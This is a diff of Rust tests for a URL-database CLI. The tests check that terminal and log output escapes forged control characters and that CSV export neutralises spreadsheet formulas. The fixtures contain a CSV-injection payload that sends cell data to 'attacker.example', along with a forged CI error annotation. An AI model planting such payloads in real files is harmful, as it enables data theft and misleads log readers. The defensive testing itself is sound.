@@ -20,7 +20,7 @@ const FORGED: &str = "---\n---\n_path: \"/a\\n::error file=x.yaml,line=1::INJECT
 
 /// A character a terminal or a log reader may act on, other than the line
 /// feed the formats write themselves.
-fn raw_control(text: &str) -> Option<char> {
+pub(super) fn raw_control(text: &str) -> Option<char> {
     text.chars()
         .find(|&c| c != '\n' && (c.is_control() || matches!(c, '\u{2028}' | '\u{2029}')))
 }
@@ -122,15 +122,13 @@ fn forged_output_is_escaped_in_every_human_format() {
         assert_unforged(&format!("{args:?}"), &stdout(&out));
         assert_unforged(&format!("{args:?} (stderr)"), &stderr(&out));
     }
-    // The URL list percent-encodes what a line cannot hold, and says so.
+    // The URL list leaves out the record `verify` does not request (its
+    // `_path` holds a line feed), and says so on one escaped line.
     let ls = run_in(dir, &["ls"]);
+    assert!(!stdout(&ls).contains("error"), "{}", stdout(&ls));
     assert!(
-        stdout(&ls).contains("http://example.org/a%0A::error%20file=x.yaml"),
-        "{}",
-        stdout(&ls)
-    );
-    assert!(
-        stderr(&ls).contains("written percent-encoded"),
+        stderr(&ls).contains("record left out: `_path` contains the control character")
+            && stderr(&ls).contains("(path-invalid-char), so `verify` does not request it"),
         "{}",
         stderr(&ls)
     );
@@ -466,4 +464,80 @@ fn a_refused_write_names_the_file_escaped() {
     assert!(err.contains("a\\x1b[2Jb.org.yaml"), "{err}");
     assert!(err.contains("symbolic link"), "{err}");
     assert_unforged("fmt (stderr)", &err);
+}
+
+/// `export --to csv` and `ls --format csv` write no cell a spreadsheet
+/// runs as a formula (OWASP, "CSV Injection"): a category
+/// `=HYPERLINK("http://attacker…")`, `+`, `-`, `@`, a tab or a carriage
+/// return first, in any column, is written after a `'` (text to a
+/// spreadsheet), in a regular file as through a pipe. The cells are read
+/// back by Python's `csv` module, as a spreadsheet's importer would split
+/// them.
+#[test]
+fn export_csv_writes_no_spreadsheet_formula() {
+    let db = database(&[
+        ("urldb.toml", ""),
+        (
+            "example.org.yaml",
+            "---\n---\n_path: /a\ncategories:\n- '=HYPERLINK(\"http://attacker.example/?\"&A1,\"open\")'\n\
+             content-type: text/html\n---\n_path: /b\ncategories:\n- '+1+1'\ncontent-type: '-2+3'\n\
+             ---\n_path: /c\ncategories:\n- '@SUM(1)'\ncontent-type: \"\\t=1\"\n\
+             ---\n_path: /d\ncategories:\n- \"\\r=1\"\ncontent-type: text/html\n",
+        ),
+    ]);
+    let file = db.path().join("out.csv");
+    let status = urldb()
+        .current_dir(db.path())
+        .args(["export", "--to", "csv"])
+        .stdout(std::fs::File::create(&file).expect("create"))
+        .stderr(Stdio::null())
+        .status()
+        .expect("run urldb");
+    assert_eq!(status.code(), Some(0));
+    let piped = run_in(db.path(), &["ls", "--format", "csv"]);
+    assert_eq!(piped.status.code(), Some(0), "{}", stderr(&piped));
+    for (what, bytes) in [
+        ("export to a file", std::fs::read(&file).expect("read")),
+        ("ls through a pipe", piped.stdout.clone()),
+    ] {
+        let read = support::run_python(
+            "import csv, json, sys\n\
+             rows = list(csv.reader(sys.stdin.read().splitlines(keepends=True)))\n\
+             print(json.dumps(rows))",
+            &[],
+            &bytes,
+        );
+        assert!(
+            read.status.success(),
+            "{}",
+            String::from_utf8_lossy(&read.stderr)
+        );
+        let rows: Vec<Vec<String>> = serde_json::from_slice(&read.stdout).expect("JSON");
+        assert_eq!(rows.len(), 5, "{what}: {rows:?}");
+        for cell in rows.iter().flatten() {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{what}: the cell {cell:?} is a formula to a spreadsheet"
+            );
+        }
+        let cells: Vec<&str> = rows
+            .iter()
+            .skip(1)
+            .flat_map(|r| [r[3].as_str(), r[4].as_str()])
+            .collect();
+        assert_eq!(
+            cells,
+            [
+                "text/html",
+                "'=HYPERLINK(\"http://attacker.example/?\"&A1,\"open\")",
+                "'-2+3",
+                "'+1+1",
+                "'\t=1",
+                "'@SUM(1)",
+                "text/html",
+                "'\r=1",
+            ],
+            "{what}"
+        );
+    }
 }
